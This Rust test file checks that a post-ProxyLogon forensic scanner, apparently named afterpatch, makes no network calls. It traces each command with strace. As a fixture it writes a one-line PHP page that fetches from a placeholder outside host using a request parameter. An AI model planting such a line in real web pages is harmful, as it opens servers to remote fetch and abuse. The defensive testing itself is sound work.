//! Nothing but what SECURITY.md names opens the network: each command runs under strace, which writes down every call of the
//! system that has to do with one.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::print_stderr, missing_docs)]

mod common;

use std::ffi::OsStr;
use std::fs;
use std::path::Path;
use std::process::Command;

use afterpatch_lab::{Layout, Scenario, Variant, make, write_folder};

/// What the command asked of the system about networks; nothing where there is no tracer.
fn network_calls(folder: &Path, arguments: &[&OsStr]) -> Option<(Option<i32>, String)> {
    let trace = folder.join("trace");
    let status = Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=network", "-e", "signal=none", "-o"])
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_afterpatch"))
        .args(arguments)
        .current_dir(folder)
        .output()
        .ok()?;
    // A tracer that may not trace has not begun.
    let said = fs::read_to_string(&trace).ok()?;
    (!String::from_utf8_lossy(&status.stderr).contains("ptrace")).then_some((status.status.code(), said))
}

#[test]
fn commands_open_no_network() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("root");
    write_folder(&make(&Scenario::small(7, Variant::ProxyLogonPostPatch)), &root, Layout::Plain).unwrap();
    let page = folder.path().join("x.php");
    fs::write(&page, "<?php echo file_get_contents('http://192.0.2.1/' . $_GET['a']);").unwrap();

    // Who asks for a host gets the network: the tracer is seen to see it. Nobody listens there.
    let Some((_, seen)) = network_calls(folder.path(), &["check", "--timeout", "1", "https://127.0.0.1:9"].map(OsStr::new))
    else {
        eprintln!("skipped: strace is not installed or may not trace here");
        return;
    };
    assert!(seen.contains("socket(AF_INET"), "{seen}");

    let root = root.as_os_str();
    let commands: &[(&[&OsStr], &[i32])] = &[
        (&["scan".as_ref(), root, "-o".as_ref(), "report.json".as_ref(), "-o".as_ref(), "report.html".as_ref()], &[13]),
        (&["scan".as_ref(), "--root".as_ref(), root, "--lang".as_ref(), "de".as_ref()], &[13]),
        (&["demo".as_ref(), "--folder".as_ref(), "demo".as_ref()], &[0]),
        (&["check".as_ref(), root], &[10]),
        (&["check".as_ref(), "15.1.2507.66".as_ref()], &[10]),
        (&["inspect".as_ref(), page.as_os_str(), "--explain".as_ref()], &[0, 10, 11, 12]),
        (&["clean".as_ref(), "--plan".as_ref(), "report.json".as_ref(), "--root".as_ref(), root], &[0, 5]),
        (&["collect".as_ref(), "--root".as_ref(), root, "-o".as_ref(), "case.zip".as_ref()], &[0]),
        (&["scan".as_ref(), "case.zip".as_ref()], &[13]),
        (&["rules".as_ref(), "list".as_ref()], &[0]),
        (&["schema".as_ref()], &[0]),
    ];
    for (arguments, codes) in commands {
        let (code, seen) = network_calls(folder.path(), arguments).unwrap();
        assert!(code.is_some_and(|code| codes.contains(&code)), "{arguments:?} ended with {code:?}");
        assert_eq!(seen, "", "{arguments:?}");
    }
}
